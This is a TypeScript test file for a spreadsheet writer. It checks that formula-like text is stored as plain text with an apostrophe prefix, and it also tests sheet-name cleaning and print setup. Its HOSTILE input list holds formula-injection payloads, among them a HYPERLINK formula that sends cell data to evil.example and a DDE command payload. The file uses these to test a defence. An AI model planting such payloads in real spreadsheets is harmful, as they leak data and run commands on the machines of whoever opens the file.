import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { isFormulaLike, safeSheetName, writeXlsxTable } from "./xlsx-write.ts";
import { listZipEntries, readZipEntry } from "./zip-entries.ts";

async function load(buf: Buffer): Promise<ExcelJS.Worksheet> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer);
  return wb.worksheets[0]!;
}

function allCells(ws: ExcelJS.Worksheet): ExcelJS.Cell[] {
  const cells: ExcelJS.Cell[] = [];
  ws.eachRow({ includeEmpty: false }, (row) => {
    row.eachCell({ includeEmpty: false }, (cell) => {
      cells.push(cell);
    });
  });
  return cells;
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
  "+1+2",
  "-2+3",
  "@SUM(A1:A2)",
  "\t=1+1",
  "\r=1+1",
  "=cmd|' /C calc'!A0",
];

describe("writeXlsxTable", () => {
  it("never writes a formula: hostile text stays text", async () => {
    const buf = await writeXlsxTable({
      sheetName: "Thử",
      titleLines: ["=1+1 TIÊU ĐỀ"],
      columns: [
        { header: "=A1", key: "a", width: 30 },
        { header: "Số", key: "n", width: 10 },
      ],
      rows: HOSTILE.map((a, i) => ({ a, n: i })),
      footer: ["-Ký tên"],
    });
    const ws = await load(buf);
    const cells = allCells(ws);
    expect(cells.length).toBeGreaterThan(HOSTILE.length);
    for (const cell of cells) {
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      expect(cell.formula).toBeFalsy();
      if (typeof cell.value === "string") expect(cell.numFmt).toBe("@");
    }
    const col = HOSTILE.map((_, i) => ws.getCell(4 + i, 1).value);
    // Formula-like text is prefixed with ' (ASVS 1.2.10); a carriage return becomes a line feed.
    expect(col).toEqual(
      HOSTILE.map((s) => s.replace(/\r/gu, "\n")).map((s) => (/^\n/u.test(s) ? s : `'${s}`)),
    );
    // The raw sheet XML has no <f> element at all.
    for (const entry of listZipEntries(buf).filter((e) => e.name.startsWith("xl/worksheets/"))) {
      expect(readZipEntry(buf, entry).toString("utf8")).not.toMatch(/<f[ >]/u);
    }
  });

  it("flags formula-like text and cleans sheet names", () => {
    for (const s of HOSTILE) expect(isFormulaLike(s)).toBe(true);
    expect(isFormulaLike("Nguyễn Văn An")).toBe(false);
    expect(safeSheetName("Danh sách: đại biểu [2020] / thị xã * rất dài rất dài")).toBe(
      "Danh sách đại biểu 2020 thị xã",
    );
    expect(safeSheetName("///")).toBe("Sheet1");
  });

  it("sets fonts, borders, frozen header and A4 print setup repeating the header", async () => {
    const buf = await writeXlsxTable({
      sheetName: "Bảng",
      titleLines: ["Dòng tiêu đề"],
      columns: [
        { header: "A", key: "a" },
        { header: "B", key: "b" },
      ],
      rows: [{ a: "x\u0001y", b: 1 }],
      landscape: true,
    });
    const ws = await load(buf);
    expect(ws.getCell("A3").value).toBe("A");
    expect(ws.getCell("A4").value).toBe("xy");
    expect(ws.getCell("A4").font?.name).toBe("Times New Roman");
    expect(ws.getCell("A4").border?.top?.style).toBe("thin");
    expect(ws.getCell("A4").alignment?.wrapText).toBe(true);
    expect(ws.getCell("A1").isMerged).toBe(true);
    expect(ws.views[0]).toMatchObject({ state: "frozen", ySplit: 3 });
    expect(ws.pageSetup).toMatchObject({
      paperSize: 9,
      orientation: "landscape",
      fitToPage: true,
      fitToWidth: 1,
    });
    expect(ws.pageSetup.printTitlesRow).toBe("3:3");
  });
});
